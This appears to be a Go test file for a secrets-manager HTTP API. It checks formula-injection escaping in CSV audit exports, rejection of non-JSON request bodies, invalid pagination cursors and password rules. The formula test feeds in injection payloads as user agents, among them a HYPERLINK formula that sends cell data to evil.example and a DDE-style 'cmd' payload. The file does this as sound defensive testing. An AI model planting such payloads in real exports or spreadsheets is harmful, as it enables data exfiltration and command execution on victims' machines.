package httpapi_test

import (
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/keyledger/keyledger/httpapi/apitest"
)

// TestAuditCSVExportNeutralizesFormulas: every cell a client can choose (its user
// agent, its email) that a spreadsheet would run as a formula leaves the export with
// a leading ' instead.
func TestAuditCSVExportNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	alice := env.SignUp(t, "alice@example.com", "Alice")
	mallory := env.SignUp(t, "=cmd@example.com", "Mallory")
	org := alice.CreateOrg(t, "Acme")
	alice.AddMember(t, org.ID, "=cmd@example.com", "viewer")
	s := alice.CreateSecret(t, org.ID, "API_KEY", map[string]string{"production": "p1"})
	agents := []string{`=HYPERLINK("https://evil.example/?leak="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"}
	for _, ua := range agents {
		mallory.Do(t, "POST", "/orgs/"+org.ID+"/secrets/"+s.ID+"/reveal", map[string]any{"env": "production"},
			"User-Agent", ua).Expect(t, http.StatusOK)
	}

	body := alice.Do(t, "GET", "/orgs/"+org.ID+"/audit/export?format=csv&actor="+url.QueryEscape("=cmd@example.com"), nil).
		Expect(t, http.StatusOK).Body
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, body)
	}
	if len(rows) != 1+len(agents) {
		t.Fatalf("%d rows:\n%s", len(rows), body)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		if row[4] != "'=cmd@example.com" {
			t.Errorf("actor_email %q", row[4])
		}
		seen[row[9]] = true
	}
	for _, ua := range agents {
		if !seen["'"+ua] {
			t.Errorf("user agent %q not exported as '%s; rows %q", ua, ua, rows)
		}
	}
}

// TestRequestBodiesMustBeJSON: a body that is not declared as JSON is 415 on every
// route, login and sign-up included (a cross-site form can send text/plain, form and
// multipart bodies without a preflight); requests without a body need no type.
func TestRequestBodiesMustBeJSON(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	alice := env.SignUp(t, "alice@example.com", "Alice")
	org := alice.CreateOrg(t, "Acme")
	anon := env.Anonymous()
	login := `{"email": "alice@example.com", "password": "` + apitest.Password + `"}`
	signup := `{"email": "eve@example.com", "password": "` + apitest.Password + `", "name": "Eve"}`

	refused := []struct {
		name, method, path, body, contentType string
		client                                *apitest.Client
	}{
		{"login as text/plain", "POST", "/auth/login", login, "text/plain", anon},
		{"login as a form", "POST", "/auth/login", "email=alice%40example.com&password=x", "application/x-www-form-urlencoded", anon},
		{"login as multipart", "POST", "/auth/login", "--b\r\n\r\nx\r\n--b--\r\n", "multipart/form-data; boundary=b", anon},
		{"login without a type", "POST", "/auth/login", login, "", anon},
		{"sign-up as text/plain", "POST", "/auth/signup", signup, "text/plain;charset=UTF-8", anon},
		{"JSON in another charset", "POST", "/auth/login", login, "application/json; charset=iso-8859-1", anon},
		{"JSON-looking type", "POST", "/auth/login", login, "text/json", anon},
		{"create an org as text/plain", "POST", "/orgs", `{"name": "Evil"}`, "text/plain", alice},
		{"patch a secret as a form", "PATCH", "/orgs/" + org.ID, "name=Evil", "application/x-www-form-urlencoded", alice},
	}
	for _, tc := range refused {
		t.Run(tc.name, func(t *testing.T) {
			r := tc.client.Do(t, tc.method, tc.path, tc.body, "Content-Type", tc.contentType)
			if tc.contentType == "" {
				// Go's client would not send an empty header: delete it instead.
				r = doWithoutContentType(t, env, tc.method, tc.path, tc.body)
			}
			r.Problem(t, http.StatusUnsupportedMediaType, "unsupported_media_type")
		})
	}
	if r := anon.Do(t, "POST", "/auth/signup", signup, "Content-Type", "text/plain"); r.Status == http.StatusCreated {
		t.Fatal("sign-up as text/plain created the user")
	}

	// JSON is accepted with a UTF-8 charset and as a +json type.
	anon.Do(t, "POST", "/auth/login", login, "Content-Type", "application/json; charset=utf-8").Expect(t, http.StatusOK)
	anon.Do(t, "POST", "/auth/login", login, "Content-Type", "Application/JSON;Charset=UTF-8").Expect(t, http.StatusOK)
	alice.Do(t, "PATCH", "/orgs/"+org.ID, `{"name": "Acme Inc"}`, "Content-Type", "application/merge-patch+json").Expect(t, http.StatusOK)

	// No body, no Content-Type: DELETE and logout go on working.
	s := alice.CreateSecret(t, org.ID, "TO_DELETE", nil)
	r := doWithoutContentType(t, env, "DELETE", "/orgs/"+org.ID+"/secrets/"+s.ID, "", "Authorization", "Bearer "+alice.Token)
	r.Expect(t, http.StatusNoContent)
	doWithoutContentType(t, env, "POST", "/auth/logout", "", "Authorization", "Bearer "+alice.Token).Expect(t, http.StatusNoContent)
}

// doWithoutContentType sends a request with no Content-Type header at all.
func doWithoutContentType(t *testing.T, env *apitest.Env, method, path, body string, headers ...string) *apitest.Response {
	t.Helper()
	req, err := http.NewRequest(method, env.BaseURL+"/api/v1"+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Del("Content-Type")
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return &apitest.Response{Status: resp.StatusCode, Header: resp.Header, Body: b}
}

// TestGarbageCursorIsInvalidRequest: on every list, a cursor the server did not hand
// out is 400 invalid_request, never a 200 page from some arbitrary point (or a first
// page, on lists that do not page at all).
func TestGarbageCursorIsInvalidRequest(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	alice := env.SignUp(t, "alice@example.com", "Alice")
	org := alice.CreateOrg(t, "Acme")
	s := alice.CreateSecret(t, org.ID, "API_KEY", map[string]string{"production": "p1"})
	alice.CreateSecret(t, org.ID, "ZETA", map[string]string{"production": "p2"})
	o := "/orgs/" + org.ID
	lists := []string{
		o + "/secrets?", o + "/secrets?as_of=2100-01-01T00:00:00Z&", o + "/secrets?limit=1&",
		o + "/audit?", o + "/audit/export?format=csv&", o + "/audit/export?format=jsonl&",
		o + "/secrets/" + s.ID + "/versions?", o + "/members?", o + "/environments?", o + "/service-tokens?",
		"/orgs?", "/auth/tokens?", o + "/secrets/?", strings.ToUpper(o) + "/MEMBERS?",
	}
	garbage := []string{"garbage", "abc", "not-a-cursor", "%25%25%25", "MS4tMQ", "LTEuMA", "YXBpX2tleQ", "QQBC", "x"}
	for _, list := range lists {
		for _, cursor := range garbage {
			alice.Do(t, "GET", list+"cursor="+cursor, nil).Problem(t, http.StatusBadRequest, "invalid_request")
		}
	}
	// A real cursor still pages, with and without as_of.
	var page struct {
		Items []struct {
			Name string `json:"name"`
		} `json:"items"`
		NextCursor *string `json:"next_cursor"`
	}
	for _, asOf := range []string{"", "&as_of=2100-01-01T00:00:00Z"} {
		alice.Do(t, "GET", o+"/secrets?limit=1"+asOf, nil).Expect(t, http.StatusOK).JSON(t, &page)
		if page.NextCursor == nil {
			t.Fatalf("no cursor after the first page")
		}
		alice.Do(t, "GET", o+"/secrets?limit=1&cursor="+url.QueryEscape(*page.NextCursor)+asOf, nil).Expect(t, http.StatusOK).JSON(t, &page)
		if len(page.Items) != 1 || page.Items[0].Name != "ZETA" {
			t.Fatalf("second page %+v", page.Items)
		}
	}
}

// TestPasswordRuleOverHTTP: sign-up and POST /admin/users apply the one password
// rule, with a field error on password that does not repeat the password.
func TestPasswordRuleOverHTTP(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	root := env.CreateUser(t, "root@example.com", "Root", true)
	anon := env.Anonymous()
	bad := map[string]string{
		"ten spaces":        strings.Repeat(" ", 10),
		"a NUL":             "tall-lamp\x00seven-oaks",
		"common":            "Password123",
		"one character":     strings.Repeat("x", 16),
		"nine characters":   "k7#Qm2!zW",
		"zero-width spaces": strings.Repeat("\u200b", 10),
	}
	for name, pw := range bad {
		t.Run(name, func(t *testing.T) {
			for _, r := range []*apitest.Response{
				anon.Do(t, "POST", "/auth/signup", map[string]any{"email": "new@example.com", "password": pw, "name": "New"}),
				root.Do(t, "POST", "/admin/users", map[string]any{"email": "new@example.com", "password": pw, "name": "New"}),
			} {
				p := r.Problem(t, http.StatusUnprocessableEntity, "validation_failed")
				if len(p.Errors) != 1 || p.Errors[0].Field != "password" || p.Errors[0].Message == "" {
					t.Fatalf("errors %+v", p.Errors)
				}
				if strings.TrimSpace(pw) != "" && strings.Contains(string(r.Body), strings.TrimSpace(pw)) {
					t.Fatalf("the problem repeats the password: %s", r.Body)
				}
			}
		})
	}
	anon.Do(t, "POST", "/auth/signup", map[string]any{"email": "new@example.com", "password": "tall lamp, seven oaks", "name": "New"}).
		Expect(t, http.StatusCreated)
}
